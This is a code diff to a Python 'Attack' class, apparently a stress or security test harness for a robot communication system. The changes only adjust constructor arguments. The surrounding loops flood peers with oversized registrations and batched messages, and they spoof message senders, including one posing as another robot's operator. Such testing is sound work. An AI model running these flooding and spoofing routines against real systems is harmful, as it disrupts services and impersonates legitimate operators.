@@ -212,7 +212,7 @@ class Attack:
         peer, number = self._peer(), 0
         while not peer.ended.is_set():
             number += 1
-            peer.data.sendBasicPrfl(CommUtil.Registration(peer.entity, f"Hostile {number}", "ROBOT", "MOBILE", 50, 2000, "", ""),
+            peer.data.sendBasicPrfl(CommUtil.Registration(peer.entity, f"Hostile {number}", "ROBOT", "MOBILE", 50, 2000, ""),
                                     b"\x0a" + number.to_bytes(4, "big") * 16_384, b"")
             yield
 
@@ -220,7 +220,7 @@ class Attack:
         """To the client that holds another robot."""
         peer = self._peer()
         _, holder = self._victims()
-        head = CommUtil.Header(CommUtil.Sender(holder, "", CommUtil.Role.Operator), peer.entity, "TEXT", CommUtil.Lease(0, 0), 0, 0, 0, b"")
+        head = CommUtil.Header(CommUtil.Sender(holder, "", CommUtil.Role.Operator), peer.entity, "TEXT", CommUtil.Lease(0, 0), 0, 0, 0)
         text = messages_pb2.ToClient(text=messages_pb2.Text(text="x" * 1000)).SerializeToString()
         proxy = peer.data.ice_batchOneway()
         while not peer.ended.is_set():
@@ -234,7 +234,7 @@ class Attack:
         entity, _ = self._victims()
         proxy = peer.data.ice_batchOneway()
         message = messages_pb2.ToEntity(text=messages_pb2.Text(text="x" * 1000)).SerializeToString()
-        head = CommUtil.Header(CommUtil.Sender("", "", CommUtil.Role.Observer), entity, "COLLABORATION", CommUtil.Lease(0, 0), 0, 0, 0, b"")
+        head = CommUtil.Header(CommUtil.Sender("", "", CommUtil.Role.Observer), entity, "COLLABORATION", CommUtil.Lease(0, 0), 0, 0, 0)
         while not peer.ended.is_set():
             for _ in range(BATCH):
                 proxy.sendToPeer(head, message)
